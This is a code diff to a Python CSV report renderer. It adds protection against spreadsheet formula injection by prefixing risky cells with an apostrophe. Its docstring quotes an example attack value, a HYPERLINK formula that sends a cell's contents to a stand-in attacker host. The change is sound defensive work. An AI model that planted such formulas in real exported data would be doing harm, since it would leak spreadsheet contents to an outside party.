@@ -465,11 +465,11 @@ def render_csv(report: Report) -> str:
     elif report.kind == "security":
         writer.writerow(_THREAT_COLUMNS)
         for row in report.security.threats_by:
-            writer.writerow(getattr(row, c) for c in _THREAT_COLUMNS)
+            writer.writerow(_cell(getattr(row, c)) for c in _THREAT_COLUMNS)
     else:
         writer.writerow(("section", "name", "value"))
         for section, name, value in _long_form(report):
-            writer.writerow((section, name, _cell(value)))
+            writer.writerow((section, _cell(name), _cell(value)))
     return out.getvalue()
 
 
@@ -500,7 +500,20 @@ def _long_form(report: Report):
     yield "incidents", "count", report.incidents.count
 
 
+#: What a spreadsheet reads as a formula at the start of a cell (OWASP, "CSV Injection").
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _cell(value: object) -> object:
+    """A value as a report's CSV cell: text that a spreadsheet would run as a formula
+    (an agent may call itself ``=HYPERLINK("https://evil.example/?"&B2,"open")``) gets a
+    leading ``'``, which spreadsheets show as text and do not keep.
+
+    >>> [_cell(v) for v in ("=1+1", "@SUM(A1)", "agent-1", -2.5, None, 0.1234567)]
+    ["'=1+1", "'@SUM(A1)", 'agent-1', -2.5, '', 0.123457]
+    """
     if isinstance(value, float):
         return round(value, 6)
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
     return "" if value is None else value
